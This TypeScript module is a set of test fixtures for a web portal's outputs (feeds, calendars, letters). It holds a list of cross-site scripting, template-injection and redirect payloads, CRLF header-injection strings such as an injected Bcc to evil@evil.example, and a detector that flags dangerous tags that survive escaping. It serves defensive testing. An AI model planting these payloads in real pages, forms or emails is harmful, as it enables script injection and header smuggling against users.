/**
 * Texts that try to become something else where they are shown: an element, an attribute, a script, a header, a cell that
 * counts. Whoever adds an output of the portal (a feed, a calendar, a letter) tries these on it and asks `tracesIn`.
 */

/** The word a payload leaves in the page it runs in. */
export const pwned = '__pwned'

/** Each ends what it may stand in, then does harm of its own. */
export const hostileTexts: readonly string[] = [
  `<script>window.${pwned}=1</script>`,
  `"><img src=x onerror="window.${pwned}=2">`,
  `'><svg/onload=window.${pwned}=3>`,
  `</textarea></title></style></script><script>window.${pwned}=4</script>`,
  `<iframe srcdoc="<script>parent.${pwned}=5</script>"></iframe>`,
  `" autofocus onfocus="window.${pwned}=6" x="`,
  `<a href="javascript:window.${pwned}=7">ici</a>`,
  `[ici](javascript:window.${pwned}=8)`,
  `]]><script xmlns="http://www.w3.org/1999/xhtml">window.${pwned}=9</script>`,
  `--><script>window.${pwned}=10</script><!--`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=window.${pwned}=11>`,
  `\${window.${pwned}=12}{{constructor.constructor('window.${pwned}=13')()}}`,
  `<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">`,
  `&lt;script&gt;window.${pwned}=14&lt;/script&gt;&#60;img src=x onerror=window.${pwned}=15&#62;`,
  `\\u003cscript\\u003ewindow.${pwned}=16\\u003c/script\\u003e`,
  `+ADw-script+AD4-window.${pwned}=17+ADw-/script+AD4-`,
]

/** All of them in one field, for outputs that are read by a machine's eye and not by a browser. */
export const everyHostileText = hostileTexts.join('\n')

/** A line end, however it is written, and what an injected header would say. */
export const hostileLines: readonly string[] = [
  'a\r\nBcc: evil@evil.example',
  'a\nSet-Cookie: evil=1',
  'a\rX-Evil: 1',
  'a\u2028X-Evil: 1',
  'a\u0085X-Evil: 1',
  'a%0d%0aX-Evil: 1',
]

/** Elements and attributes no text may bring into markup: what one finds is a hole. `words` is HTML, SVG or XML. */
export function tracesIn(words: string): string[] {
  const tags = words.match(/<[a-z!/][^<>]*>/gi) ?? []
  return tags.filter(
    tag =>
      new RegExp(`${pwned}(?!&)`).test(
        tag.replace(/="[^"]*"/g, value => (/^="\s*javascript:/i.test(value) ? value : '')),
      ) ||
      /^<(?:iframe|base|math|svg\/)/i.test(tag) ||
      /\son[a-z]+\s*=/i.test(tag.replace(/="[^"]*"/g, '=""')),
  )
}
